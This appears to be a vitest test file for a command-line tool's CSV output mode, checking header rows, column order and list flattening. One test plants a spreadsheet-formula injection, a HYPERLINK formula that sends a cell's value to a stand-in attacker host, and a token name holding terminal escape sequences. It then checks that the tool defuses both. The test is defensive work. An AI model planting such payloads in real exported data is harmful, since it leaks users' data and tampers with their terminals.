// Issue 36 item 6: `-o csv` for every list, RFC 4180 with a header row, read back here with
// python3's csv module (another implementation than ours).

import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { forgectl, json } from '../helpers/cli.js';
import { envFor, useSandbox } from '../helpers/sandbox.js';

const sandbox = useSandbox();

/** Rows as python3's csv.reader reads them (strict: a malformed quote is an error). */
function pythonCsv(text: string): string[][] {
  const py = 'import csv, json, sys\nprint(json.dumps(list(csv.reader(sys.stdin, strict=True))))';
  const res = spawnSync('python3', ['-c', py], { input: text, encoding: 'utf8' });
  if (res.status !== 0) throw new Error(`python3 csv refused the output: ${res.stderr}`);
  return JSON.parse(res.stdout) as string[][];
}

async function run(args: string[]) {
  const res = await forgectl(args, { env: envFor(sandbox()) });
  expect(res.exitCode, `${args.join(' ')}: ${res.stderr}`).toBe(0);
  return res;
}

describe('-o csv', () => {
  it('token list -o csv reads back with a CSV parser: a header row, then one row per token', async () => {
    const tokens = json<any[]>(await run(['token', 'list', '--all', '-o', 'json']));
    const res = await run(['token', 'list', '--all', '-o', 'csv']);
    // Records end in CRLF (execa drops the last one); no field here holds a line break.
    expect(res.stdout.split('\r\n')).toHaveLength(tokens.length + 1);
    const [header, ...rows] = pythonCsv(res.stdout);
    expect(header).toContain('id');
    expect(header).toContain('name');
    expect(rows).toHaveLength(tokens.length);
    const at = (h: string) => header.indexOf(h);
    expect(rows.map((r) => Number(r[at('id')]))).toEqual(tokens.map((t) => t.id));
    expect(rows.map((r) => r[at('name')])).toEqual(tokens.map((t) => t.name));
    // A list value is plain text, its items joined by "; " (issue 41: not JSON in a spreadsheet cell).
    expect(rows.map((r) => r[at('scopes')].split('; '))).toEqual(tokens.map((t) => t.scopes));
  });

  it('keeps the --fields columns in their order, lists as plain text', async () => {
    const res = await run(['token', 'list', '--all', '--fields', 'name,scopes,expires_at', '-o', 'csv']);
    const [header, ...rows] = pythonCsv(res.stdout);
    expect(header).toEqual(['name', 'scopes', 'expires_at']);
    const dave = rows.find((r) => r[0] === 'dave-scripts');
    expect(dave).toEqual(['dave-scripts', 'read_api', '']);
  });

  it('token audit -o csv defuses a token name a spreadsheet would run as a formula, and escapes controls', async () => {
    const sb = sandbox();
    // Any user names their own tokens: dave makes two that never expire (an audit finding).
    const dave = sb.state.findUser('dave')!;
    const now = sb.state.clock.now();
    const evil = '=HYPERLINK("http://evil.example.com/?x="&A1,"click")';
    for (const name of [evil, 'title\u001b]0;owned\u0007\u009b2J']) {
      sb.state.addToken({ userId: dave.id, name, description: null, scopes: ['read_api'], createdAt: now, updatedAt: now, lastUsedAt: now, expiresAt: null, revoked: false, impersonation: false, previousId: null, secret: `glpat-csv-test-${name.length}` });
    }
    const res = await run(['token', 'audit', '-o', 'csv']);
    expect(res.stdout).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
    const [header, ...rows] = pythonCsv(res.stdout);
    const names = rows.map((r) => r[header.indexOf('name')]);
    expect(names).toContain(`'${evil}`);
    expect(names).not.toContain(evil);
    expect(names).toContain('title^[]0;owned^G\\x9b2J');
    // Findings are plain text, as a person reads them.
    const findings = rows.map((r) => r[header.indexOf('findings')]);
    expect(findings).toContain('no-expiry');
    expect(findings.join('\n')).not.toContain('[');
  });

  it('a nested record (a merge request\'s assignees) is written as the table shows it, not as JSON', async () => {
    const mr = json<any>(await run(['mr', 'view', 'acme/platform/api!1', '-o', 'json']));
    const res = await run(['mr', 'view', 'acme/platform/api!1', '-o', 'csv']);
    const [header, row] = pythonCsv(res.stdout);
    expect(mr.assignees.length).toBeGreaterThan(0);
    expect(row![header!.indexOf('assignees')]).toBe(mr.assignees.map((u: any) => u.username).join('; '));
    expect(res.stdout).not.toContain('{');
  });
});
